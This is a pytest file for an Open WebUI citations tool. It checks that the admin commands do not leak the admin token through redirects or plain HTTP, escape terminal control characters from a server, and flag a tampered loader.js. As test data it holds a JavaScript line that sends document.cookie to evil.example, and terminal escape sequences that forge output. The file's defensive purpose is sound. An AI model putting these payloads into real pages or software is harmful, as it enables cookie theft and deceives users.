"""The admin's commands that talk to a running Open WebUI (`relay-install`, `relay-uninstall`,
`status --url`), against servers that do not play fair: the admin's token goes to the address
given and nowhere else, what the server sends never reaches the terminal as control characters,
and a served loader.js or a function that is not this package's is not taken for it."""

import json
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from http.server import ThreadingHTTPServer
from pathlib import Path

import pytest

from owui_citations import relay
from owui_citations.__main__ import main
from owui_citations.installer import CHAINED
from tests.functions_api import FunctionsApi
from tests.installer_support import CUSTOMISED
from tests.installer_support import fake_parts
from tests.installer_support import make_frontend
from tests.installer_support import run

TOKEN = "admin"  # what FunctionsApi takes for an admin's token
ACTIONS = ["relay-install", "relay-uninstall", "status"]
# What a hostile server sends as a version: sets the terminal's title, erases the line, and
# writes a reassuring one in its place; in a banner (no blank), goes up a line and erases it.
HOSTILE = "0.6.5\x1b]0;owned-title\x07\x1b[2K\rServed: all good"
HOSTILE_IN_BANNER = "0.2.0\x1b]0;owned-title\x07\x1b[1A\x1b[2K"


@contextmanager
def serving(handler: type[BaseHTTPRequestHandler], host: str = "127.0.0.1") -> Iterator[str]:
    server = ThreadingHTTPServer((host, 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{host}:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


class Quiet(BaseHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass

    def answer(self, code: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response(code)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def command(action: str, url: str, frontend: Path, bundle: Path) -> list[str]:
    local = ["--frontend-dir", str(frontend), "--bundle", str(bundle)] if action == "status" else []
    return [action, "--url", url, *local]


@pytest.fixture
def other_host() -> Iterator[tuple[str, list[tuple[str, str, str | None]]]]:
    """Another host (an SSO proxy's login page, say): records every request it receives."""
    received: list[tuple[str, str, str | None]] = []

    class Collect(Quiet):
        def handle_one(self) -> None:
            received.append((self.command, self.path, self.headers["Authorization"]))
            self.answer(200, b"[]", {"Content-Type": "application/json"})

        do_GET = do_POST = do_DELETE = handle_one

    with serving(Collect, "127.0.0.2") as url:
        yield url, received


@pytest.mark.parametrize("code", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("action", ACTIONS)
def test_a_redirect_is_refused_and_the_other_host_receives_nothing(
    other_host: tuple[str, list], frontend: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch, action: str, code: int
) -> None:
    target, received = other_host

    class Redirect(Quiet):
        def redirect(self) -> None:
            self.answer(code, b"", {"Location": f"{target}/login?next={self.path}"})

        do_GET = do_POST = do_DELETE = redirect

    monkeypatch.setenv("OWUI_CITATIONS_TOKEN", TOKEN)
    with serving(Redirect) as url:
        result = run(*command(action, url, frontend, bundle))
    assert received == []
    assert result.returncode == 2, result.stdout + result.stderr
    assert f"redirect ({code}) to {target.removeprefix('http://')}" in result.stderr, result.stderr
    assert "final url" in result.stderr.lower()


@pytest.fixture
def no_connection(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every name looked up and connection attempted in this process, none of them made."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("no network in this test")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


@pytest.mark.parametrize("action", ACTIONS)
def test_plain_http_to_another_machine_is_refused_before_connecting(
    no_connection: list[object],
    frontend: Path,
    bundle: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    action: str,
) -> None:
    monkeypatch.setenv("OWUI_CITATIONS_TOKEN", TOKEN)
    url = "http://example.invalid:8080"
    monkeypatch.setattr(sys, "argv", ["owui-citations", *command(action, url, frontend, bundle)])
    assert main() == 2
    assert no_connection == []
    error = capsys.readouterr().err
    assert "plain http" in error and "https://" in error and "--insecure-http" in error, error

    # Asked for explicitly, it is tried (and fails here, with no network).
    monkeypatch.setattr(sys, "argv", [*sys.argv, "--insecure-http"])
    assert main() == 2
    assert no_connection != []


@pytest.mark.parametrize("url", ["http://127.0.0.1:8080", "http://localhost:8080/", "http://[::1]:8080"])
def test_plain_http_to_this_machine_is_allowed(
    no_connection: list[object], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], url: str
) -> None:
    monkeypatch.setenv("OWUI_CITATIONS_TOKEN", TOKEN)
    monkeypatch.setattr(sys, "argv", ["owui-citations", "relay-install", "--url", url])
    assert main() == 2
    assert no_connection != [] and "no network" in capsys.readouterr().err


def fake_open_webui(version: str, loader: bytes, files: dict[str, bytes] | None = None) -> type[BaseHTTPRequestHandler]:
    """An Open WebUI that reports ``version`` and serves ``loader`` as its loader.js, and ``files``
    under /static/ (by their path there)."""

    class OpenWebUI(Quiet):
        def do_GET(self) -> None:
            static = (files or {}).get(self.path.removeprefix("/static/"))
            if self.path == "/api/version":
                self.answer(200, json.dumps({"version": version}).encode(), {"Content-Type": "application/json"})
            elif self.path == "/static/loader.js":
                self.answer(200, loader, {"Content-Type": "application/javascript"})
            elif static is not None:
                self.answer(200, static, {"Content-Type": "application/javascript"})
            else:
                self.answer(404, b"")

    return OpenWebUI


@pytest.mark.parametrize("where", ["Open WebUI's version", "the served loader.js's banner"])
def test_status_shows_what_the_server_sent_without_control_characters(
    frontend: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    monkeypatch.delenv("OWUI_CITATIONS_TOKEN", raising=False)
    loader = bundle.read_bytes()
    if where.startswith("Open"):
        handler = fake_open_webui(HOSTILE, b"")
    else:
        handler = fake_open_webui("0.12.4", loader.replace(b"0.2.0", HOSTILE_IN_BANNER.encode(), 1))
    with serving(handler) as url:
        result = run(*command("status", url, frontend, bundle))
    assert result.returncode == 1, result.stdout + result.stderr
    served = [line for line in result.stdout.splitlines() if line.startswith(f"Served by {url}")]
    assert served and "owned-title" in served[0], result.stdout  # shown, escaped
    assert not any(c in result.stdout for c in "\x1b\x07\r"), repr(result.stdout)
    assert not any(line.startswith("Served: all good") for line in result.stdout.splitlines())


EVIL = b"fetch('https://evil.example/?' + document.cookie);\n"


@pytest.mark.parametrize(
    "serves",
    [
        "the installed loader.js",
        "its code replaced under the banner",
        "code appended to the bundle",
        "code appended after the chained loader",
    ],
)
def test_status_says_tampered_when_the_served_loader_is_not_what_install_wrote(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch, serves: str
) -> None:
    monkeypatch.delenv("OWUI_CITATIONS_TOKEN", raising=False)
    chained = "chained" in serves
    frontend = make_frontend(tmp_path / "frontend", CUSTOMISED if chained else "")
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    installed, ours = (frontend / "static" / "loader.js").read_bytes(), bundle.read_bytes()
    assert (CHAINED in installed) == chained
    loader = {
        "the installed loader.js": installed,
        "its code replaced under the banner": ours.splitlines(keepends=True)[0] + EVIL,
        "code appended to the bundle": ours + EVIL,
        "code appended after the chained loader": installed + EVIL,
    }[serves]
    with serving(fake_open_webui("0.12.4", loader)) as url:
        result = run(*command("status", url, frontend, bundle))
    if serves == "the installed loader.js":
        assert result.returncode == 0 and f"Served by {url}: yes, version 0.2.0" in result.stdout, result.stdout
    else:
        assert result.returncode == 1 and f"Served by {url}: TAMPERED" in result.stdout, result.stdout


def test_a_function_that_only_mentions_the_relays_title_is_not_taken_for_it() -> None:
    # Someone else's filter under our id, with our frontmatter further down (in a string, a comment):
    # relay-install would replace it with ours, relay-uninstall delete it.
    theirs = {
        "id": relay.FUNCTION_ID,
        "content": f'"""\ntitle: Their own filter\n"""\nNOTE = """\ntitle: {relay.NAME}\n"""\nclass Filter: ...\n',
        "is_active": True,
        "is_global": True,
    }
    FunctionsApi.functions, FunctionsApi.calls = {relay.FUNCTION_ID: dict(theirs)}, []
    with serving(FunctionsApi) as url:
        for step in (relay.install_relay, relay.uninstall_relay):
            with pytest.raises(relay.RelayError, match="not this relay"):
                step(url, TOKEN)
        assert relay.relay_status(url, TOKEN) == (
            f"Relay filter: the function {relay.FUNCTION_ID} is someone else's, not this relay.",
            False,
        )
    assert FunctionsApi.functions[relay.FUNCTION_ID] == theirs
    assert not any(call.startswith(("POST", "DELETE")) for call in FunctionsApi.calls)


@pytest.mark.parametrize("serves", ["its parts", "no parts (a mount or a proxy without them)", "a part changed"])
def test_status_says_whether_the_parts_beside_loader_are_served_as_packaged(
    frontend: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch, serves: str
) -> None:
    monkeypatch.delenv("OWUI_CITATIONS_TOKEN", raising=False)
    files = fake_parts(bundle, "0.2.0")
    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
    parts = {path: (bundle.parent / path).read_bytes() for path in files}
    if serves.startswith("no parts"):
        parts = {}
    elif serves == "a part changed":
        parts[files[0]] += EVIL
    with serving(fake_open_webui("0.12.4", (frontend / "static" / "loader.js").read_bytes(), parts)) as url:
        result = run(*command("status", url, frontend, bundle))
    if serves == "its parts":
        assert result.returncode == 0 and f"Served by {url}: yes, version 0.2.0" in result.stdout, result.stdout
    else:
        assert result.returncode == 1 and "but not its parts as packaged (features.js" in result.stdout, result.stdout
